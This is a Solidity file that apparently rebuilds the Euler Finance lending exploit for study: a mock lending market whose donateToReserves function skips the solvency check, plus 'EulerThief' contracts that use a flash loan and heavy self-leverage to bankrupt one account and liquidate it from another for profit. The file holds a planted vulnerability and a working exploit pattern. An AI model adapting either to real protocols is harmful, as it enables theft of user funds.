// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// Lends several assets against each other and against themselves. A share and a debt unit are each worth a token.
contract EulerLike {
    uint256 public constant FACTOR = 93; // of a hundred, of what is held
    uint256 public constant DISCOUNTED = 75; // of a hundred: what a liquidator takes over for what it gets

    address public immutable governor = msg.sender;
    mapping(Token => uint256) public price; // dollars of 18 places for 10^18 base units
    mapping(Token => mapping(address => uint256)) public held;
    mapping(Token => mapping(address => uint256)) public owed;
    mapping(Token => uint256) public totalHeld;
    mapping(Token => uint256) public totalOwed;
    mapping(Token => uint256) public reserves;
    Token[] public assets;
    address[] private accounts;
    mapping(address => bool) private known;

    event PriceSet(address indexed asset, uint256 price);
    event Deposit(address indexed asset, address indexed account, uint256 amount);
    event Withdraw(address indexed asset, address indexed account, uint256 amount);
    event Borrow(address indexed asset, address indexed account, uint256 amount);
    event Repay(address indexed asset, address indexed account, uint256 amount);
    event DonateToReserves(address indexed asset, address indexed account, uint256 amount);
    event Liquidation(
        address indexed liquidator, address indexed violator, address indexed collateral, address debt, uint256 repay, uint256 yield
    );

    function setPrice(Token asset, uint256 value) external {
        require(msg.sender == governor, "not the governor");
        if (price[asset] == 0) assets.push(asset);
        price[asset] = value;
        emit PriceSet(address(asset), value);
    }

    function deposit(Token asset, uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        add(asset, msg.sender, amount);
        emit Deposit(address(asset), msg.sender, amount);
    }

    function withdraw(Token asset, uint256 amount) external {
        held[asset][msg.sender] -= amount;
        totalHeld[asset] -= amount;
        require(healthy(msg.sender), "e/collateral-violation");
        asset.transfer(msg.sender, amount);
        emit Withdraw(address(asset), msg.sender, amount);
    }

    function borrow(Token asset, uint256 amount) external {
        owe(asset, msg.sender, amount);
        require(healthy(msg.sender), "e/collateral-violation");
        asset.transfer(msg.sender, amount);
        emit Borrow(address(asset), msg.sender, amount);
    }

    /// Holds and owes more of the same: leverage without a transfer.
    function mint(Token asset, uint256 amount) external {
        add(asset, msg.sender, amount);
        owe(asset, msg.sender, amount);
        require(healthy(msg.sender), "e/collateral-violation");
        emit Deposit(address(asset), msg.sender, amount);
        emit Borrow(address(asset), msg.sender, amount);
    }

    function repay(Token asset, uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        owed[asset][msg.sender] -= amount;
        totalOwed[asset] -= amount;
        emit Repay(address(asset), msg.sender, amount);
    }

    /// Was written for dust, and asks nobody whether what is left is enough.
    function donateToReserves(Token asset, uint256 amount) external {
        held[asset][msg.sender] -= amount;
        totalHeld[asset] -= amount;
        reserves[asset] += amount;
        emit DonateToReserves(address(asset), msg.sender, amount);
    }

    /// Takes over all of a violator's collateral in one asset, and of its debt what that is worth less the discount.
    function liquidate(address violator, Token debt, Token collateral) external {
        require(!healthy(violator), "e/not-in-violation");
        uint256 yield_ = held[collateral][violator];
        uint256 repay_ = yield_ * price[collateral] / price[debt] * DISCOUNTED / 100;
        if (repay_ > owed[debt][violator]) {
            yield_ = yield_ * owed[debt][violator] / repay_;
            repay_ = owed[debt][violator];
        }
        held[collateral][violator] -= yield_;
        totalHeld[collateral] -= yield_;
        owed[debt][violator] -= repay_;
        totalOwed[debt] -= repay_;
        add(collateral, msg.sender, yield_);
        owe(debt, msg.sender, repay_);
        require(healthy(msg.sender), "e/collateral-violation");
        emit Liquidation(msg.sender, violator, address(collateral), address(debt), repay_, yield_);
    }

    function worth(address account) public view returns (uint256 has, uint256 owes) {
        for (uint256 i = 0; i < assets.length; i++) {
            has += held[assets[i]][account] * price[assets[i]] / 1e18;
            owes += owed[assets[i]][account] * price[assets[i]] / 1e18;
        }
    }

    function healthy(address account) public view returns (bool) {
        (uint256 has, uint256 owes) = worth(account);
        return has * FACTOR / 100 >= owes;
    }

    /// Debts that nothing stands behind any more, in dollars of 18 places.
    function badDebt() external view returns (uint256 sum) {
        for (uint256 i = 0; i < accounts.length; i++) {
            (uint256 has, uint256 owes) = worth(accounts[i]);
            if (owes > has) sum += owes - has;
        }
    }

    function add(Token asset, address account, uint256 amount) private {
        held[asset][account] += amount;
        totalHeld[asset] += amount;
    }

    function owe(Token asset, address account, uint256 amount) private {
        if (!known[account]) {
            known[account] = true;
            accounts.push(account);
        }
        owed[asset][account] += amount;
        totalOwed[asset] += amount;
    }
}

/// Ruins one account of its own for another one to liquidate.
contract EulerThief {
    struct Job {
        EulerLike market;
        uint256 stake;
        address payee;
    }

    function run(FlashLender lender, Token asset, Job calldata job) external {
        lender.flashLoan(IBorrower(address(this)), asset, job.stake, abi.encode(job));
        asset.transfer(job.payee, asset.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token asset, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        Job memory job = abi.decode(data, (Job));
        (EulerViolator violator, EulerTaker taker) = (new EulerViolator(), new EulerTaker());
        asset.transfer(address(violator), amount);
        violator.ruin(job.market, asset, amount);
        taker.take(job.market, asset, address(violator));
        asset.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract EulerViolator {
    function ruin(EulerLike market, Token asset, uint256 stake) external {
        asset.approve(address(market), stake);
        market.deposit(asset, stake);
        market.mint(asset, stake * 13);
        market.donateToReserves(asset, stake);
    }
}

contract EulerTaker {
    function take(EulerLike market, Token asset, address violator) external {
        market.liquidate(violator, asset, asset);
        uint256 free = market.held(asset, address(this)) - market.owed(asset, address(this)) * 100 / market.FACTOR() - 1;
        uint256 there = asset.balanceOf(address(market));
        market.withdraw(asset, free < there ? free : there);
        asset.transfer(msg.sender, asset.balanceOf(address(this)));
    }
}

/// Liquidates with borrowed money: takes over, pays the debt, withdraws the collateral, sells it.
contract EulerKeeper {
    address private immutable owner = msg.sender;

    struct Job {
        EulerLike market;
        Pool pool;
        address violator;
        Token collateral;
    }

    function run(FlashLender lender, Token debt, uint256 amount, Job calldata job) external {
        require(msg.sender == owner, "not the owner");
        lender.flashLoan(IBorrower(address(this)), debt, amount, abi.encode(job));
        debt.transfer(owner, debt.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token debt, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        Job memory job = abi.decode(data, (Job));
        job.market.liquidate(job.violator, debt, job.collateral);
        uint256 owes = job.market.owed(debt, address(this));
        debt.approve(address(job.market), owes);
        job.market.repay(debt, owes);
        uint256 got = job.market.held(job.collateral, address(this));
        job.market.withdraw(job.collateral, got);
        job.collateral.approve(address(job.pool), got);
        job.pool.sell(job.collateral, got, address(this));
        debt.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
